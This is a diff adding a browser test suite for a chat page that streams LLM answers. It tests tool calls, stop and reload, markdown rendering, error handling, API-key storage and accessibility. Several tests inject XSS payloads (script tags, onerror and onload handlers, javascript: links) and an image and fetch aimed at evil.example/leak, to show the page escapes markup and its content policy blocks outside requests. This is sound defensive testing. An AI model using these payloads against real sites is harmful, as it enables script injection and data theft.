@@ -1,0 +1,580 @@
+"""The chat page, used in headless Chromium: typed at, read, stopped, reloaded, attacked.
+
+Answers come from the server under test; where a test needs a certain answer (a thought, a tool call, an attack), the
+browser is given it in place of the server's.
+"""
+
+import json
+import re
+import time
+
+import httpx
+import pytest
+
+CHAT = "/v1/chat/completions"
+ATTACK = "<script>document.title='pwned';pwned=1</script><img src=x onerror=pwned=1><svg/onload=pwned=1>"
+WATCHER = """
+    window.violations = [];
+    addEventListener('securitypolicyviolation', (event) => violations.push(event.violatedDirective + ' ' + event.blockedURI));
+"""
+
+
+def stream(*deltas, finish="stop", usage=(11, 7), done=True):
+    """A response to a streaming request, as the server would write it."""
+    chunks = [{"choices": [{"index": 0, "delta": delta, "finish_reason": None}]} for delta in deltas]
+    chunks.append({"choices": [{"index": 0, "delta": {}, "finish_reason": finish}]})
+    chunks.append({"choices": [], "usage": {"prompt_tokens": usage[0], "completion_tokens": usage[1]}})
+    body = "".join(f"data: {json.dumps(chunk)}\n\n" for chunk in chunks)
+    return body + ("data: [DONE]\n\n" if done else "")
+
+
+def call(name, arguments, index=0, call_id="call_1"):
+    return {"tool_calls": [{"index": index, "id": call_id, "type": "function",
+                            "function": {"name": name, "arguments": arguments}}]}
+
+
+class Visitor:
+    """A browser window on the page. Whatever must never happen is collected, and looked at when the test ends."""
+
+    def __init__(self, browser, url, **options):
+        self.url = url
+        self.context = browser.new_context(**{"viewport": {"width": 1200, "height": 800}, **options})
+        self.context.set_default_timeout(30_000)
+        self.page = self.context.new_page()
+        self.page.add_init_script(WATCHER)
+        self.problems = []
+        self.requests = []
+        self.expected_problems = []
+        self.page.on("console", lambda message: self.problems.append(f"console: {message.text}")
+                     if message.type in ("error", "warning") else None)
+        self.page.on("pageerror", lambda error: self.problems.append(f"exception: {error}"))
+        self.page.on("dialog", lambda dialog: (self.problems.append("a dialog opened"), dialog.dismiss()))
+        self.page.on("request", lambda request: self.requests.append(request.url))
+        self.page.goto(url)
+
+    def send(self, text):
+        self.page.fill("#prompt", text)
+        self.page.press("#prompt", "Enter")
+
+    def wait(self):
+        self.page.wait_for_selector("#stop", state="hidden")
+
+    def ask(self, text):
+        self.send(text)
+        self.wait()
+
+    def wait_for_words(self):
+        """Until some of the answer is there. (What waits inside the page is forbidden by the page's own policy.)"""
+        deadline = time.monotonic() + 30
+        while len(self.text(".assistant > .markdown")) < 20:
+            assert time.monotonic() < deadline, "no answer comes"
+            time.sleep(0.02)
+
+    def answers_with(self, *bodies, status=200):
+        """The next requests are answered by the test; returns the list that their bodies end up in."""
+        asked, left = [], list(bodies)
+
+        def answer(route):
+            asked.append(route.request.post_data_json)
+            body = left.pop(0) if len(left) > 1 else left[0]
+            kind = "text/event-stream" if status == 200 else "application/json"
+            route.fulfill(status=status, content_type=kind, body=body)
+
+        self.page.unroute("**" + CHAT)
+        self.page.route("**" + CHAT, answer)
+        return asked
+
+    def setting(self, **values):
+        self.page.click("#open-settings")
+        for name, value in values.items():
+            if isinstance(value, bool):
+                self.page.set_checked("#" + name, value)
+            else:
+                self.page.fill("#" + name, str(value))
+        self.page.click("#close-settings")
+
+    def text(self, selector):
+        return self.page.inner_text(selector)
+
+    def stored(self):
+        """The conversations that the browser keeps."""
+        kept = self.page.evaluate("({...localStorage})")
+        return [json.loads(value) for key, value in kept.items() if key.startswith("lapidary.conversation.")]
+
+    def check(self):
+        origin = re.match(r"https?://[^/]+", self.url)[0]
+        foreign = [url for url in self.requests if not url.startswith((origin + "/", "data:", "blob:" + origin))]
+        assert foreign == [], "the page asked somebody else"
+        assert self.page.evaluate("violations") == []
+        assert self.page.evaluate("typeof pwned") == "undefined"
+        problems = [problem for problem in self.problems
+                    if not any(expected in problem for expected in self.expected_problems)]
+        assert problems == []
+
+
+@pytest.fixture
+def visit(browser):
+    visitors = []
+
+    def open_page(server, **options):
+        visitors.append(Visitor(browser, server.url + "/", **options))
+        return visitors[-1]
+
+    yield open_page
+    try:
+        for visitor in visitors:
+            visitor.check()
+    finally:
+        for visitor in visitors:
+            visitor.context.close()
+
+
+@pytest.fixture
+def visitor(visit, server):
+    return visit(server)
+
+
+def test_types_and_reads_the_streamed_answer(visit, endless_server):
+    visitor = visit(endless_server)
+    visitor.setting(seed=3, max_tokens=1500)
+    visitor.page.evaluate("""
+        window.lengths = new Set();
+        new MutationObserver(() => lengths.add(document.querySelector('.assistant')?.innerText.length))
+            .observe(byId('messages'), {childList: true, subtree: true, characterData: true});
+    """)
+    visitor.ask("Hello")
+    assert visitor.page.evaluate("lengths.size") > 3, "the answer must grow before one's eyes"
+    whole = httpx.post(endless_server.url + CHAT, timeout=60, json={
+        "messages": [{"role": "user", "content": "Hello"}], "seed": 3, "max_tokens": 1500,
+        "chat_template_kwargs": {"enable_thinking": False}}).json()
+    [conversation] = visitor.stored()
+    assert conversation["messages"][1]["content"] == whole["choices"][0]["message"]["content"]
+    assert visitor.text(".user .text") == "Hello"
+    first_word = re.search(r"\w{3,}", whole["choices"][0]["message"]["content"])[0]
+    assert first_word in visitor.text(".assistant .markdown >> nth=-1")
+    stats = visitor.text(".assistant .stats")
+    assert re.fullmatch(r"first token [\d.]+ s · [\d.]+ tok/s · \d+ tokens", stats), stats
+    assert f"{whole['usage']['completion_tokens']} tokens" in stats
+    assert "Cut off at the token limit." in visitor.text(".assistant")
+
+
+def test_shift_enter_starts_a_line(visitor):
+    asked = visitor.answers_with(stream({"content": "ok"}))
+    visitor.page.fill("#prompt", "one")
+    visitor.page.press("#prompt", "Shift+Enter")
+    visitor.page.keyboard.type("two")
+    visitor.page.press("#prompt", "Enter")
+    visitor.wait()
+    assert asked[0]["messages"] == [{"role": "user", "content": "one\ntwo"}]
+
+
+@pytest.mark.parametrize("how", ["button", "escape"])
+def test_stop_ends_the_answer_here_and_in_the_server(visit, endless_server, how):
+    visitor = visit(endless_server)
+    aborted = endless_server.metric("request_success_total", finished_reason="abort") or 0
+    visitor.send("Hello")
+    visitor.wait_for_words()
+    assert endless_server.metric("num_requests_running") == 1
+    if how == "button":
+        visitor.page.click("#stop")
+    else:
+        visitor.page.keyboard.press("Escape")
+    visitor.wait()
+    endless_server.wait_until_idle()
+    assert endless_server.metric("request_success_total", finished_reason="abort") == aborted + 1
+    assert "Stopped." in visitor.text(".assistant")
+    before = visitor.text(".assistant")
+    time.sleep(0.3)
+    assert visitor.text(".assistant") == before
+    assert visitor.stored()[0]["messages"][1]["content"], "what was said until then is kept"
+
+
+def test_reload_keeps_the_conversation_and_its_settings(visitor):
+    asked = visitor.answers_with(stream({"content": "First answer"}), stream({"content": "Second answer"}))
+    visitor.setting(system="Be brief.", temperature=0.5, thinking=True, seed=7)
+    visitor.ask("First question")
+    visitor.page.reload()
+    assert visitor.text(".user .text") == "First question"
+    assert "First answer" in visitor.text(".assistant")
+    assert "7 tokens" in visitor.text(".assistant .stats")
+    assert visitor.page.input_value("#title") == "First question"
+    visitor.ask("Second question")
+    assert asked[1]["messages"] == [
+        {"role": "system", "content": "Be brief."}, {"role": "user", "content": "First question"},
+        {"role": "assistant", "content": "First answer"}, {"role": "user", "content": "Second question"}]
+    assert (asked[1]["temperature"], asked[1]["seed"]) == (0.5, 7)
+    assert asked[1]["chat_template_kwargs"] == {"enable_thinking": True}
+    assert "top_p" not in asked[1] and "max_tokens" not in asked[1], "what is empty is left to the server"
+
+
+def test_reload_during_an_answer_keeps_what_was_said(visit, endless_server):
+    visitor = visit(endless_server)
+    visitor.send("Hello")
+    visitor.wait_for_words()
+    visitor.page.reload()
+    endless_server.wait_until_idle()
+    assert "Broken off" in visitor.text(".assistant")
+    assert len(visitor.text(".assistant")) > 20
+
+
+def test_thinking_is_folded(visitor):
+    visitor.answers_with(stream({"reasoning_content": "Let me think\nof it."}, {"content": "The answer is 4."}))
+    visitor.ask("2 + 2?")
+    assert visitor.page.is_visible("details.thought summary")
+    assert not visitor.page.is_visible("details.thought .markdown")
+    assert "Let me think" not in visitor.text(".assistant")
+    visitor.page.click("details.thought summary")
+    assert "Let me think" in visitor.text("details.thought .markdown")
+    assert "The answer is 4." in visitor.text(".assistant")
+
+
+def test_tool_calls_are_shown_and_their_results_sent(visitor):
+    asked = visitor.answers_with(
+        stream({"reasoning_content": "I ask both."}, call("get_weather", '{"city":"Oslo","unit":"C"}'),
+               call("get_time", "{}", 1, "call_2"), finish="tool_calls"),
+        stream({"content": "It is 9 degrees at noon."}))
+    visitor.page.click("#open-settings")
+    visitor.page.click("#example-tool")
+    visitor.page.click("#close-settings")
+    visitor.ask("Weather in Oslo?")
+    assert asked[0]["tools"][0]["function"]["name"] == "get_weather"
+    assert "get_weather" in visitor.text(".call >> nth=0")
+    assert '{\n  "city": "Oslo",\n  "unit": "C"\n}' in visitor.text(".call >> nth=0")
+    assert "get_time" in visitor.text(".call >> nth=1")
+    visitor.page.get_by_label("Result of get_weather").fill('{"degrees": 9}')
+    visitor.page.get_by_label("Result of get_time").fill("noon")
+    visitor.page.get_by_role("button", name="Send the results").click()
+    visitor.page.wait_for_selector("text=It is 9 degrees at noon.")
+    assert asked[1]["messages"][1:] == [
+        {"role": "assistant", "content": None, "reasoning_content": "I ask both.", "tool_calls": [
+            {"id": "call_1", "type": "function", "function": {"name": "get_weather", "arguments": '{"city":"Oslo","unit":"C"}'}},
+            {"id": "call_2", "type": "function", "function": {"name": "get_time", "arguments": "{}"}}]},
+        {"role": "tool", "tool_call_id": "call_1", "name": "get_weather", "content": '{"degrees": 9}'},
+        {"role": "tool", "tool_call_id": "call_2", "name": "get_time", "content": "noon"}]
+    visitor.page.reload()
+    assert '"degrees": 9' in visitor.text(".call >> nth=0") and "noon" in visitor.text(".call >> nth=1")
+
+
+@pytest.mark.parametrize("tools,problem", [("[{", "not JSON"), ('[{"description": "x"}]', 'needs a "name"'),
+                                           ('{"name": "f", "parameters": 3}', "no JSON schema")])
+def test_bad_tools_are_told_before_anything_is_sent(visitor, tools, problem):
+    asked = visitor.answers_with(stream({"content": "no"}))
+    visitor.setting(tools=tools)
+    visitor.send("Hello")
+    assert problem in visitor.text("#tools-problem")
+    assert visitor.page.is_visible("#settings")
+    assert asked == [] and visitor.page.input_value("#prompt") == "Hello"
+    visitor.page.fill("#tools", '{"name": "f"}')
+    visitor.page.press("#prompt", "Enter")
+    visitor.wait()
+    assert asked[0]["tools"] == [{"type": "function", "function": {"name": "f"}}]
+
+
+def test_sampling_out_of_range_is_told_before_anything_is_sent(visitor):
+    asked = visitor.answers_with(stream({"content": "no"}))
+    visitor.setting(top_p=1.5)
+    visitor.send("Hello")
+    assert "Top p" in visitor.text("#sampling-problem")
+    assert asked == []
+
+
+def test_no_markup_from_anywhere_becomes_part_of_the_page(visit, start):
+    server = start("--served-model-name", ATTACK)
+    visitor = visit(server)
+    visitor.page.wait_for_selector("#model option", state="attached")
+    visitor.answers_with(
+        stream({"reasoning_content": ATTACK},
+               {"content": f"{ATTACK}\n\n# {ATTACK}\n\n- {ATTACK}\n\n> {ATTACK}\n\n`{ATTACK}` **{ATTACK}**\n\n"
+                           f"|a|{ATTACK}|\n|-|-|\n|{ATTACK}|b|\n\n```{ATTACK.replace(' ', '')}\n{ATTACK}\n```\n\n"
+                           "[x](javascript:pwned=1) ![x](https://evil.example/x.png) <https://evil.example>"},
+               call(ATTACK, json.dumps({ATTACK: ATTACK}), call_id=ATTACK), finish="tool_calls"))
+    visitor.setting(system=ATTACK, tools=json.dumps([{"name": ATTACK, "description": ATTACK}]))
+    visitor.ask(ATTACK)
+    visitor.page.fill("#title", ATTACK)
+    visitor.page.press("#title", "Enter")
+    visitor.page.get_by_label("Result of").fill(ATTACK)
+    visitor.page.get_by_role("button", name="Send the result").click()
+    visitor.wait()
+    for _ in range(2):
+        visitor.page.wait_for_selector(".assistant")
+        for summary in visitor.page.query_selector_all("summary"):
+            summary.click()
+        assert ATTACK in visitor.text(".user .text")
+        answer = visitor.text(".assistant >> nth=0")
+        assert answer.count(ATTACK) >= 10, answer
+        assert visitor.page.title() == ATTACK + " · Lapidary"
+        assert ATTACK in visitor.text("#conversations")
+        assert visitor.page.evaluate("document.scripts.length") == 1
+        assert visitor.page.evaluate(
+            "document.querySelectorAll('main :is(script, img, iframe, object, a, [onerror], [onload])').length") == 0
+        visitor.page.reload()
+    errors = visit(server)
+    errors.expected_problems = ["400 (Bad Request)"]
+    errors.answers_with(json.dumps({"error": {"message": ATTACK}}), status=400)
+    errors.ask("Hello")
+    assert ATTACK in errors.text(".error")
+
+
+def test_storage_written_by_another_hand_is_harmless(visitor):
+    visitor.page.evaluate("""(attack) => {
+        localStorage['lapidary.conversation.a'] = JSON.stringify({title: attack, messages: [{role: 'user', content: attack},
+            {role: 'assistant', content: attack, tool_calls: [{name: attack}, null], note: attack, error: attack, stats: attack}]});
+        localStorage['lapidary.conversation.b'] = '{broken';
+        localStorage['lapidary.conversation.c'] = JSON.stringify({messages: [{role: 'king', content: 3}, null, {role: 'user', content: 7}]});
+        localStorage['lapidary.current'] = 'a';
+        localStorage['lapidary.settings'] = '[]';
+        localStorage['lapidary.theme'] = attack;
+    }""", ATTACK)
+    visitor.page.reload()
+    assert ATTACK in visitor.text(".user .text") and ATTACK in visitor.text(".error")
+    visitor.page.click("#conversations .open >> nth=1")
+
+
+def test_the_policy_stops_what_the_page_would_let_through(visit, server):
+    visitor = visit(server)
+    refused = visitor.page.evaluate("""() => {
+        try { document.body.innerHTML += '<img src=x onerror="pwned=1">'; } catch (error) { return error.name; }
+    }""")
+    assert refused == "TypeError"
+    visitor.page.evaluate("""() => new Promise((resolve) => {
+        addEventListener('securitypolicyviolation', resolve);
+        const image = document.createElement('img');
+        image.src = 'https://evil.example/leak';
+        document.body.append(image);
+    })""")
+    with pytest.raises(Exception, match="Failed to fetch"):
+        visitor.page.evaluate("fetch('https://evil.example/leak')")
+    blocked = visitor.page.evaluate("violations.splice(0)")
+    assert any(item.startswith("img-src") for item in blocked)
+    assert any(item.startswith("connect-src") for item in blocked)
+    visitor.requests.clear()  # Chromium lists the requests that it then refuses to make.
+    visitor.problems.clear()
+
+
+def test_markdown(visitor):
+    visitor.answers_with(stream({"content": "# Title\n\nSome **bold**, *thin* and `a_b_c` in snake_case, 2 * 3 * 4.\n\n"
+                                            "- one\n- two\n  1. deep\n\n3. three\n4. four\n\n"
+                                            "| a | b |\n|---|---|\n| 1 | **2** |\n\n"
+                                            "```python\nif x:\n\ty = '**no**'\n```\n\n> said"}))
+    visitor.ask("Hello")
+    body = ".assistant > .markdown"
+    assert visitor.text(body + " h3") == "Title"
+    assert visitor.text(body + " strong >> nth=0") == "bold" and visitor.text(body + " em") == "thin"
+    assert visitor.text(body + " p code") == "a_b_c"
+    assert visitor.page.inner_text(body + " > p").endswith("in snake_case, 2 * 3 * 4.")
+    assert visitor.page.locator(body + " > ul > li").count() == 2
+    assert visitor.text(body + " ul ol li") == "deep"
+    assert visitor.page.get_attribute(body + " > ol", "start") == "3"
+    assert visitor.text(body + " td strong") == "2"
+    assert visitor.page.text_content(body + " pre code") == "if x:\n\ty = '**no**'"
+    assert visitor.text(body + " blockquote") == "said"
+
+
+def test_odd_answers_do_not_hang_the_page(visitor):
+    for text in ("*" * 50_000, "`" * 50_001, "> " * 20_000, "- " * 20_000, " " * 100_000 + "|\n" + "-" * 50_000,
+                 "#" + " " * 100_000 + "x", "|" * 50_000 + "\n" + "|" * 50_000, "*a " * 20_000, "`a`` " * 20_000,
+                 "```\n" * 2_001, "\n" * 50_000, "1. a\n" * 2_000):
+        visitor.answers_with(stream({"content": text}))
+        began = time.monotonic()
+        visitor.ask("Hello")
+        assert time.monotonic() - began < 10, repr(text[:20])
+        visitor.page.click("#new")
+
+
+def test_errors_are_told_in_words_and_can_be_retried(visitor):
+    visitor.expected_problems = ["400 (Bad Request)", "503 (Service Unavailable)", "net::ERR_FAILED"]
+    # The server's own refusal: the context of the test's server is 1024 tokens.
+    visitor.setting(max_tokens=100000)
+    visitor.ask("Hello")
+    assert "the context holds 1024 tokens" in visitor.text(".error").lower()
+    visitor.setting(max_tokens="")
+    visitor.answers_with(json.dumps({"error": {"message": "too many requests are waiting"}}), status=503)
+    visitor.page.click("text=Try again")
+    visitor.page.wait_for_selector("text=The server is busy: Too many requests are waiting.")
+    visitor.page.unroute("**" + CHAT)
+    visitor.page.route("**" + CHAT, lambda route: route.abort())
+    visitor.page.click("text=Try again")
+    visitor.page.wait_for_selector("text=The server cannot be reached")
+    visitor.answers_with(stream({"content": "half an ans"}, done=False))
+    visitor.page.click("text=Try again")
+    visitor.page.wait_for_selector("text=The connection broke before the answer was complete.")
+    assert "half an ans" in visitor.text(".assistant")
+    visitor.answers_with('data: {"error": {"message": "internal error", "code": 500}}\n\ndata: [DONE]\n\n')
+    visitor.page.click("text=Try again")
+    visitor.page.wait_for_selector("text=Internal error.")
+    asked = visitor.answers_with(stream({"content": "well again"}))
+    visitor.page.click("text=Try again")
+    visitor.page.wait_for_selector("text=well again")
+    assert len(asked[0]["messages"]) == 1, "failed answers are not part of the conversation"
+    assert not visitor.page.is_visible(".error")
+
+
+@pytest.mark.parametrize("keep", [False, True])
+def test_asks_for_the_key_and_keeps_it_as_told(visit, start, keep):
+    server = start("--api-key", "s3cret")
+    visitor = visit(server)
+    visitor.expected_problems = ["401 (Unauthorized)"]
+    visitor.page.wait_for_selector("#key-dialog[open]")
+    visitor.page.fill("#key", "wrong")
+    visitor.page.press("#key", "Enter")
+    visitor.page.wait_for_selector("text=The server does not take the key it was given.")
+    visitor.page.fill("#key", "s3cret")
+    visitor.page.set_checked("#keep-key", keep)
+    visitor.page.press("#key", "Enter")
+    visitor.page.wait_for_selector("#model-name:has-text('tiny')")
+    visitor.setting(max_tokens=5)
+    visitor.ask("Hello")
+    assert not visitor.page.is_visible(".error")
+    where = visitor.page.evaluate("[localStorage['lapidary.key'], sessionStorage['lapidary.key']]")
+    assert where == (["s3cret", None] if keep else [None, "s3cret"])
+    visitor.page.reload()
+    visitor.page.wait_for_selector("#model-name:has-text('tiny')")
+    assert server.stop() == 0
+
+
+def test_answers_can_be_made_again_and_messages_edited_and_deleted(visitor):
+    asked = visitor.answers_with(*[stream({"content": f"answer {number}"}) for number in range(1, 6)])
+    visitor.ask("first")
+    visitor.page.get_by_role("button", name="Answer again").click()
+    visitor.page.wait_for_selector("text=answer 2")
+    assert not visitor.page.is_visible("text=answer 1")
+    visitor.ask("second")
+    visitor.page.hover(".user >> nth=0")
+    visitor.page.get_by_role("button", name="Edit").first.click()
+    visitor.page.get_by_label("Edit the message").fill("first, edited")
+    visitor.page.locator(".editing").get_by_role("button", name="Send").click()
+    visitor.page.wait_for_selector("text=answer 4")
+    assert [message["content"] for message in asked[-1]["messages"]] == ["first, edited"]
+    visitor.page.hover(".assistant")
+    visitor.page.locator(".assistant").get_by_role("button", name="Edit").click()
+    visitor.page.get_by_label("Edit the message").fill("put into its mouth")
+    visitor.page.get_by_role("button", name="Save").click()
+    visitor.ask("third")
+    assert [message["content"] for message in asked[-1]["messages"]] == ["first, edited", "put into its mouth", "third"]
+    visitor.page.hover(".user >> nth=1")
+    visitor.page.locator(".user >> nth=1").get_by_role("button", name="Delete").click()
+    assert not visitor.page.is_visible("text=third")
+    visitor.page.click("text=Undo")
+    assert visitor.page.is_visible("text=third")
+
+
+def test_conversations_are_listed_opened_and_deleted(visitor):
+    visitor.answers_with(stream({"content": "about cats"}), stream({"content": "about dogs"}))
+    visitor.ask("Cats?")
+    visitor.page.click("#new")
+    assert not visitor.page.is_visible(".message")
+    visitor.ask("Dogs?")
+    assert visitor.page.locator("#conversations li").count() == 2
+    visitor.page.click("#conversations >> text=Cats?")
+    assert "about cats" in visitor.text("#messages")
+    visitor.page.reload()
+    assert "about cats" in visitor.text("#messages"), "the open one is remembered"
+    visitor.page.locator("#conversations li.current").get_by_role("button", name="Delete").click()
+    assert visitor.page.locator("#conversations li").count() == 1
+    visitor.page.click("text=Undo")
+    assert "about cats" in visitor.text("#messages")
+    visitor.page.locator("#conversations li.current").get_by_role("button", name="Delete").click()
+    visitor.page.reload()
+    assert [conversation["title"] for conversation in visitor.stored()] == ["Dogs?"]
+
+
+def test_two_conversations_answer_at_once(visit, endless_server):
+    visitor = visit(endless_server)
+    for title in ("one", "two"):
+        visitor.send(title)
+        visitor.page.wait_for_selector("#stop", state="visible")
+        visitor.page.click("#new")
+    assert visitor.page.locator("#conversations .busy").count() == 2
+    assert visitor.page.is_visible("#send"), "a third could be begun"
+    for title in ("one", "two"):
+        visitor.page.click(f"#conversations >> text={title}")
+        visitor.page.click("#stop")
+        visitor.wait()
+    endless_server.wait_until_idle()
+
+
+def test_copies_and_exports(visit, server, tmp_path):
+    visitor = visit(server, permissions=["clipboard-read", "clipboard-write"])
+    visitor.answers_with(stream({"content": "the answer"}))
+    visitor.setting(system="Be brief.")
+    visitor.ask("the question")
+    visitor.page.click("#open-settings")
+    visitor.page.click("#copy-all")
+    visitor.page.wait_for_selector("text=Copied")
+    assert visitor.page.evaluate("navigator.clipboard.readText()") == (
+        "System: Be brief.\n\nYou: the question\n\nModel: the answer")
+    with visitor.page.expect_download() as download:
+        visitor.page.click("#export")
+    assert download.value.suggested_filename == "the-question.json"
+    download.value.save_as(tmp_path / "export.json")
+    exported = json.loads((tmp_path / "export.json").read_text())
+    assert exported["messages"] == [{"role": "system", "content": "Be brief."}, {"role": "user", "content": "the question"},
+                                    {"role": "assistant", "content": "the answer"}]
+    assert server.post(CHAT, json={"messages": exported["messages"], "max_tokens": 1}).status_code == 200
+
+
+def test_light_dark_and_the_choice_between_them(visitor):
+    def brightness():
+        return visitor.page.evaluate("""() => {
+            const canvas = document.createElement('canvas').getContext('2d');
+            canvas.fillStyle = getComputedStyle(document.body).backgroundColor;
+            canvas.fillRect(0, 0, 1, 1);
+            return canvas.getImageData(0, 0, 1, 1).data[1];
+        }""")
+    visitor.page.emulate_media(color_scheme="light")
+    assert brightness() > 200
+    visitor.page.emulate_media(color_scheme="dark")
+    assert brightness() < 50
+    visitor.page.click("#theme")
+    assert brightness() > 200
+    visitor.page.reload()
+    assert brightness() > 200, "the choice is remembered"
+    visitor.page.click("#theme")
+    visitor.page.emulate_media(color_scheme="light")
+    assert brightness() < 50
+
+
+def test_a_phone_has_no_sideways_scroll(visit, server):
+    visitor = visit(server, viewport={"width": 360, "height": 640}, has_touch=True, is_mobile=True)
+
+    def fits():
+        return visitor.page.evaluate("Math.max(document.documentElement.scrollWidth, thread.scrollWidth)") <= 360
+
+    long_word = "x" * 300
+    visitor.answers_with(stream({"reasoning_content": long_word},
+                                {"content": f"{long_word} `{long_word}`\n\n```\n{long_word}\n```\n\n"
+                                            f"|{long_word}|b|\n|-|-|\n|1|2|\n\n# {long_word}\n\n- {long_word}"},
+                                call(long_word, json.dumps({"key": long_word})), finish="tool_calls"))
+    assert fits()
+    visitor.page.tap("#prompt")
+    visitor.page.fill("#prompt", long_word)
+    visitor.page.tap("#send")
+    visitor.wait()
+    visitor.page.wait_for_selector(".call")
+    visitor.page.tap("summary")
+    assert fits()
+    for panel in ("sidebar", "settings"):
+        visitor.page.tap(f"#open-{panel}")
+        assert fits()
+        box = visitor.page.locator("#" + panel).bounding_box()
+        assert box["x"] >= 0 and box["x"] + box["width"] <= 360
+        visitor.page.tap(f"#close-{panel}")
+        assert not visitor.page.is_visible("#" + panel)
+    for button in visitor.page.query_selector_all(".foot button, .bar button, #send"):
+        if button.is_visible():
+            size = button.bounding_box()
+            assert min(size["width"], size["height"]) >= 30, "large enough for a finger"
+
+
+def test_every_control_has_a_name_and_the_log_is_live(visitor):
+    visitor.answers_with(stream({"reasoning_content": "hm"}, {"content": "x"}, call("f", "{}"), finish="tool_calls"))
+    visitor.ask("Hello")
+    visitor.page.click("#open-settings")
+    nameless = visitor.page.evaluate("""() => [...document.querySelectorAll('button, input, select, textarea')].filter((control) =>
+        !(control.getAttribute('aria-label') || control.labels?.length || control.innerText.trim()))
+        .map((control) => control.outerHTML)""")
+    assert nameless == []
+    log = visitor.page.get_by_role("log")
+    assert log.get_attribute("aria-live") == "polite" and log.get_attribute("aria-busy") == "false"
+    visitor.page.click("#close-settings")
+    assert visitor.page.evaluate("document.activeElement.id") == "open-settings", "focus goes back to what opened the panel"
